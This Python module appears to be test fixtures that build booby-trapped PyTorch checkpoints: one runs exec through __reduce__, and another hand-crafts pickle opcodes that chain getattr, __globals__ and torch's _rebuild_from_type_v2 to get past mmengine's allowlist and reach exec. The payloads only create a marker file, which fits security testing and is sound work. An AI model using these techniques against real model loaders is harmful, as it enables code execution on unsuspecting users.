"""Files that are named checkpoints and would run code, or fill memory, in a careless reader."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import torch


def name(module: str, attribute: str) -> bytes:
    """The pickle opcode that asks for a name."""
    return f'c{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    """The pickle opcode for a string."""
    data = value.encode()
    return b'X' + len(data).to_bytes(4, 'little') + data


def zipped(pickle: bytes, **records: bytes) -> bytes:
    """A file as torch.save writes it, around any pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as archive:
        for part, data in {
            'data.pkl': b'\x80\x02' + pickle,
            'version': b'3\n',
            'byteorder': b'little',
            **records,
        }.items():
            archive.writestr(f'archive/{part}', data)
    return buffer.getvalue()


class Planted:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f'open({str(self.marker)!r}, "w").close()',)


def reduced(marker: Path, **options) -> bytes:
    """An ordinary checkpoint with one thing in it that is code."""
    buffer = io.BytesIO()
    torch.save(
        {'state_dict': {'backbone.conv1.weight': torch.zeros(1)}, 'meta': Planted(marker)},
        buffer,
        **options,
    )
    return buffer.getvalue()


def through_getattr(marker: Path) -> bytes:
    """Uses only names that mmengine lets through, `getattr` among them, to reach `exec`.

    torch's `_rebuild_from_type_v2` calls what it is given and wants to know of which type its
    result will be.
    """

    def attribute(thing: bytes, key: str) -> bytes:
        return name('__builtin__', 'getattr') + thing + text(key) + b'\x86R'

    def call(function: bytes, kind: bytes, argument: str) -> bytes:
        return (
            name('torch._tensor', '_rebuild_from_type_v2')
            + b'('
            + function
            + kind
            + text(argument)
            + b'\x85}tR'
        )

    history = name('mmengine.logging.history_buffer', 'HistoryBuffer')
    names = attribute(attribute(history, 'min'), '__globals__')
    builtins = call(attribute(names, 'get'), attribute(names, '__class__'), '__builtins__')
    get = attribute(builtins, 'get')
    run = call(get, attribute(get, '__class__'), 'exec')
    done = call(run, attribute(b'N', '__class__'), f'open({str(marker)!r}, "w").close()')
    return zipped(done + b'.')
